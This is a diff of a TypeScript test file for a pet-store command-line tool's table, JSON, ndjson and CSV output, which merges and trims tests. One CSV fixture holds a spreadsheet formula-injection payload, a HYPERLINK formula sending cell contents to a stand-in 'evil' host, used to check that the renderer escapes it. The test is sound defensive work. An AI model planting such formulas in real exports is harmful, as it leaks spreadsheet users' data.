@@ -3,8 +3,9 @@ import { LosslessNumber } from 'lossless-json';
 import { beforeAll, describe, expect, test } from 'vitest';
 import { renderPet, renderPets } from '../../src/output/pets';
 import { type RenderOptions, loadTable } from '../../src/output/records';
-import displayWidth from 'string-width';
 import type { Pet } from '../../src/schemas/pet';
+
+/** The pet's columns over records.ts: how a table, TSV, csv and JSON are laid out is records.test.ts's. */
 
 // A terminal's table is drawn by a renderer loaded on demand (records.ts).
 beforeAll(loadTable);
@@ -47,70 +48,35 @@ describe('table on a TTY', () => {
     expect(stripVTControlCharacters(out)).toBe(renderPets(pets, 'table', TTY));
   });
 
-  test('truncates NAME with … to fit the terminal width, never wrapping a row', () => {
-    const long: Pet[] = [
-      { id: 1, name: 'A remarkably long name for a very good dog', categoryId: 2, status: 'available' },
-      { id: 2, name: 'Bo', categoryId: 3, status: 'sold' },
-    ];
-    const out = renderPets(long, 'table', { tty: true, level: 0, width: 40 });
-    expect(out).toBe(
+  const long: Pet[] = [
+    { id: 1, name: 'A remarkably long name for a very good dog', categoryId: 2, status: 'available' },
+    { id: 2, name: 'Bo', categoryId: 3, status: 'sold' },
+  ];
+  test.each([
+    [
+      'truncates NAME with … to fit the terminal width, never wrapping a row',
+      long,
+      40,
+      ['ID  NAME             CATEGORY  STATUS', '1   A remarkably l…  2         available', '2   Bo               3         sold'],
+    ],
+    [
+      'keeps IDs whole and rows on one line even when the terminal is too narrow',
+      pets,
+      10,
       [
-        'ID  NAME             CATEGORY  STATUS',
-        '1   A remarkably l…  2         available',
-        '2   Bo               3         sold',
-        '',
-      ].join('\n'),
-    );
-    for (const line of out.trimEnd().split('\n')) expect(displayWidth(line)).toBeLessThanOrEqual(40);
-  });
-
-  test('keeps IDs whole and rows on one line even when the terminal is too narrow', () => {
-    const out = renderPets(pets, 'table', { tty: true, level: 0, width: 10 });
-    const lines = out.trimEnd().split('\n');
-    expect(lines).toHaveLength(pets.length + 1);
-    expect(lines[3]).toBe('9007199254740993  Gold…  4         sold');
-    expect(lines[2]).toContain('Whis…');
-  });
-
-  test('no width: nothing is truncated', () => {
-    const name = 'n'.repeat(200);
-    expect(renderPets([{ id: 1, name, categoryId: 2 }], 'table', TTY)).toContain(name);
+        'ID                NAME   CATEGORY  STATUS',
+        '1                 Rex    2         available',
+        '12                Whis…  3         pending',
+        '9007199254740993  Gold…  4         sold',
+        '5                 Name…  6         -',
+      ],
+    ],
+  ])('%s', (_title, rows, width, lines) => {
+    expect(renderPets(rows, 'table', { tty: true, level: 0, width })).toBe(`${lines.join('\n')}\n`);
   });
 });
 
-describe('table off a TTY (TSV)', () => {
-  test('plain tab-separated lines, no header, no colour', () => {
-    expect(renderPets(pets, 'table', { tty: false, level: 3 })).toBe(
-      '1\tRex\t2\tavailable\n' +
-        '12\tWhiskers\t3\tpending\n' +
-        '9007199254740993\tGoldie\t4\tsold\n' +
-        '5\tNameless\t6\t-\n',
-    );
-  });
-
-  test('`cut -f2` gets every name, even names holding tabs, newlines and CRs', () => {
-    const awkward: Pet[] = [
-      { id: 1, name: 'Rex\tthe dog', categoryId: 2, status: 'available' },
-      { id: 2, name: 'two\nlines', categoryId: 2 },
-      { id: 3, name: 'carriage\r\nreturn', categoryId: 2 },
-    ];
-    const out = renderPets(awkward, 'table', PIPE);
-    const lines = out.split('\n');
-    expect(lines.pop()).toBe('');
-    expect(lines).toHaveLength(3);
-    // What `cut -f2` does: the second tab-separated field of each line.
-    expect(lines.map((line) => line.split('\t')[1])).toEqual(['Rex the dog', 'two lines', 'carriage  return']);
-    expect(lines.every((line) => line.split('\t').length === 4)).toBe(true);
-  });
-
-  test('a single pet is one line', () => {
-    expect(renderPet({ id: BIG_ID, name: 'Goldie', categoryId: 4 }, 'table', PIPE)).toBe(
-      '9007199254740993\tGoldie\t4\t-\n',
-    );
-  });
-});
-
-describe('json', () => {
+describe('json and ndjson: every field the server sent, int64 exact', () => {
   const withExtras: Pet = {
     id: BIG_ID,
     name: 'Goldie',
@@ -120,48 +86,33 @@ describe('json', () => {
     weightKg: new LosslessNumber('4.10000000000000000001'),
     tags: ['fish', { colour: 'gold' }],
   };
+  const single = [
+    '{',
+    '  "id": 9007199254740993,',
+    '  "name": "Goldie",',
+    '  "categoryId": 9223372036854775807,',
+    '  "status": "sold",',
+    '  "adoptedAt": "2025-01-02T03:04:05Z",',
+    '  "weightKg": 4.10000000000000000001,',
+    '  "tags": [',
+    '    "fish",',
+    '    {',
+    '      "colour": "gold"',
+    '    }',
+    '  ]',
+    '}',
+  ];
 
   test('a single pet: the object, every field, int64 exact, 2-space indent, trailing newline', () => {
-    expect(renderPet(withExtras, 'json', PIPE)).toBe(
-      [
-        '{',
-        '  "id": 9007199254740993,',
-        '  "name": "Goldie",',
-        '  "categoryId": 9223372036854775807,',
-        '  "status": "sold",',
-        '  "adoptedAt": "2025-01-02T03:04:05Z",',
-        '  "weightKg": 4.10000000000000000001,',
-        '  "tags": [',
-        '    "fish",',
-        '    {',
-        '      "colour": "gold"',
-        '    }',
-        '  ]',
-        '}',
-        '',
-      ].join('\n'),
-    );
+    expect(renderPet(withExtras, 'json', PIPE)).toBe(`${single.join('\n')}\n`);
   });
 
   test('a list: the array', () => {
-    const out = renderPets([pets[0]!, withExtras], 'json', TTY_COLOUR);
-    expect(out).toMatch(/^\[\n {2}\{\n {4}"id": 1,/);
-    expect(out).toContain('"id": 9007199254740993,');
-    expect(out).not.toContain('9007199254740992');
-    expect(out).toContain('"adoptedAt": "2025-01-02T03:04:05Z"');
-    expect(out.endsWith(']\n')).toBe(true);
-    expect(out).not.toContain(ESC);
+    // No colour in JSON, even on a colour terminal.
+    expect(renderPets([withExtras], 'json', TTY_COLOUR)).toBe(`[\n${single.map((line) => `  ${line}`).join('\n')}\n]\n`);
   });
 
-  test('a pet without status has no status key', () => {
-    expect(renderPet({ id: 5, name: 'Nameless', categoryId: 6 }, 'json', PIPE)).toBe(
-      '{\n  "id": 5,\n  "name": "Nameless",\n  "categoryId": 6\n}\n',
-    );
-  });
-});
-
-describe('ndjson', () => {
-  test('one compact object per line, extra fields kept', () => {
+  test('ndjson: one compact object per line, extra fields kept', () => {
     const list: Pet[] = [
       { id: 1, name: 'Rex', categoryId: 2, status: 'available' },
       { id: BIG_ID, name: 'two\nlines', categoryId: 4, microchip: 'X1' },
@@ -171,56 +122,18 @@ describe('ndjson', () => {
         '{"id":9007199254740993,"name":"two\\nlines","categoryId":4,"microchip":"X1"}\n',
     );
   });
-
-  test('a single pet is one line', () => {
-    expect(renderPet(pets[2]!, 'ndjson', PIPE)).toBe(
-      '{"id":9007199254740993,"name":"Goldie","categoryId":4,"status":"sold"}\n',
-    );
-  });
 });
 
 describe('csv', () => {
-  test('header, then rows; RFC 4180 quoting; empty status; extra fields left out', () => {
+  test("header, then rows; extra fields left out; names a spreadsheet would take for formulas get a leading ', piped or not; negative ids and categories stay numbers", () => {
     const list: Pet[] = [
       { id: BIG_ID, name: 'Rex, "the" dog', categoryId: 2, status: 'available', extra: 'not in csv' },
-      { id: 2, name: 'two\nlines', categoryId: 3 },
-      { id: 3, name: 'Plain', categoryId: 4, status: 'sold' },
-    ];
-    expect(renderPets(list, 'csv', TTY_COLOUR)).toBe(
-      'id,name,categoryId,status\n' +
-        '9007199254740993,"Rex, ""the"" dog",2,available\n' +
-        '2,"two\nlines",3,\n' +
-        '3,Plain,4,sold\n',
-    );
-  });
-
-  test('a single pet: header and one row', () => {
-    expect(renderPet(pets[1]!, 'csv', PIPE)).toBe('id,name,categoryId,status\n12,Whiskers,3,pending\n');
-  });
-
-  test("names a spreadsheet would take for formulas get a leading ', piped or not; negative ids and categories stay numbers", () => {
-    const list: Pet[] = [
       { id: -2, name: '=HYPERLINK("http://evil/?x="&A1,"click")', categoryId: -3 },
-      { id: 3, name: '-2+3', categoryId: 1 },
-      { id: 4, name: '@SUM(1+1)', categoryId: 1 },
-      { id: 5, name: '\t=1', categoryId: 1 },
+      { id: 3, name: '-2+3', categoryId: 1, status: 'sold' },
     ];
-    const expected = `id,name,categoryId,status\n-2,"'=HYPERLINK(""http://evil/?x=""&A1,""click"")",-3,\n3,'-2+3,1,\n4,'@SUM(1+1),1,\n5,'\t=1,1,\n`;
+    const expected = `id,name,categoryId,status\n9007199254740993,"Rex, ""the"" dog",2,available\n-2,"'=HYPERLINK(""http://evil/?x=""&A1,""click"")",-3,\n3,'-2+3,1,sold\n`;
     expect(renderPets(list, 'csv', PIPE)).toBe(expected);
     expect(renderPets(list, 'csv', TTY_COLOUR)).toBe(expected);
-  });
-});
-
-// Table and ndjson print nothing (the caller says so on stderr), json `[]`, csv the header alone.
-describe('an empty list', () => {
-  test.each([
-    ['table', 'on a terminal', '', TTY_COLOUR],
-    ['table', 'piped', '', PIPE],
-    ['json', 'on a terminal', '[]\n', TTY],
-    ['ndjson', 'piped', '', PIPE],
-    ['csv', 'piped', 'id,name,categoryId,status\n', PIPE],
-  ] as const)('%s %s: %j', (format, _where, text, options) => {
-    expect(renderPets([], format, options)).toBe(text);
   });
 });
 
